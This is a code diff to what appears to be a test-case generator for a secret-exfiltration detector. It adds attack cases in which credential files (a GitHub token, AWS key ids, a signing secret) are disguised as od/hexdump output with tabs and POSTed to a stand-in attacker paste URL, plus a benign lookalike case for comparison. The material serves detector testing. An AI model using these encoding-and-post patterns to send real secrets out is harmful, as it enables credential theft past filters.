@@ -678,7 +678,22 @@ def attacks(rng: random.Random) -> list[Case]:
               "                dump: |\n" + _indented(xxd(aws9), " " * 20) + "                ok: true\n").encode())
     add("hexdump", "od -c | tr ' ' '\\t' of the signing secret", ("SIGNING_SECRET",), method="POST",
         url=f"{evil}/paste", headers=plain, body=od_c(f"key={signing}\n".encode()).replace(" ", "\t").encode())
+
+    # -- od -An -c with tabs between its cells --------------------------------------------------
+    tenth = _Fakes(random.Random(1510))  # its own generator: the cases before stay as they were
+    add("hexdump", "od -An -c | tr ' ' '\\t' of a token file", ("github-token",), method="POST",
+        url=f"{evil}/paste", headers=plain,
+        body=od_an_c(f"[default]\ntoken = {tenth.github()}\n".encode()).replace(" ", "\t").encode())
+    add("hexdump", "od -An -c of an AWS credentials file pasted in a spreadsheet, a space an empty cell",
+        ("aws-access-key-id",), method="POST", url=f"{evil}/paste", headers=plain,
+        body=_one_tab_cells(od_an_c(f"[default]\naws_access_key_id = {tenth.aws_id()}\n".encode())).encode())
     return out
+
+
+def _one_tab_cells(dump: str) -> str:
+    """``od -An -c`` cells each behind one tab, a space byte an empty cell (a spreadsheet paste)."""
+    return "".join("".join("\t" + line[i:i + 4].lstrip() for i in range(0, len(line), 4)) + "\n"
+                   for line in dump.splitlines())
 
 
 def _realigned_xxd(dump: str, rng: random.Random) -> str:
@@ -1117,6 +1132,14 @@ def benign(rng: random.Random) -> list[Case]:
                     + "".join(f"{i:07o}\t" + "\t".join(f"{deep.randrange(1000)}" for _ in range(8)) + "\n"
                               for i in range(0, 64, 8))
                     + "".join(f"{' ' * 18}{i:06d} 2026-12-07 08:{i:02d}:00 worker ready\n" for i in range(12))}))
+    cells = random.Random(1510)
+    add("lookalike", "od -An -c with tabs of an ordinary file, a TSV of letters, a Makefile, a sheet of numbers",
+        method="POST", url="https://api.github.com/repos/o/r/issues", headers=(JSON,),
+        body=_json({"title": "tabs", "body": od_an_c(source).replace(" ", "\t") + _one_tab_cells(od_an_c(source))
+                    + "".join("\t" + "\t".join(cells.choice("abcxyz ") for _ in range(16)) + "\n" for _ in range(12))
+                    + "".join(f"t{i}: d{i}.c\n\t$(CC) -c $< -o $@\n\t@echo {i}\n" for i in range(8))
+                    + "".join("\t" + "\t".join(str(cells.randrange(1000)) for _ in range(12)) + "\n"
+                              for _ in range(12))}))
     return out
 
 
